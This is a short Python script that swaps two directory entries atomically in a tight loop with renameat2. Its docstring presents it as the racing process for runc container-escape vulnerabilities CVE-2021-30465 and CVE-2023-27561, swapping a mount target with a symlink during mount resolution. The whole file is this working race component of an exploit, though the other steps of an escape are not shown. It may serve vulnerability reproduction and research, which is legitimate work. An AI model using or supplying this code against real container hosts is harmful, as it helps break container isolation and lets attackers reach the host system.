#!/usr/bin/env python3
"""swap_loop.py A B SECONDS: exchange the directory entries A and B (renameat2
RENAME_EXCHANGE, atomic) again and again for SECONDS, or until killed: the racing process of
runc's CVE-2021-30465 and CVE-2023-27561, which swaps a mount target with a symlink while the
runtime resolves and mounts it."""
import ctypes
import os
import sys
import time

RENAME_EXCHANGE = 2
AT_FDCWD = -100
libc = ctypes.CDLL(None, use_errno=True)
a, b, seconds = os.fsencode(sys.argv[1]), os.fsencode(sys.argv[2]), float(sys.argv[3])
deadline = time.monotonic() + seconds
swaps = 0
while time.monotonic() < deadline:
    for _ in range(1000):
        if libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0:
            sys.exit(f"renameat2: {os.strerror(ctypes.get_errno())}")
        swaps += 1
print(swaps)
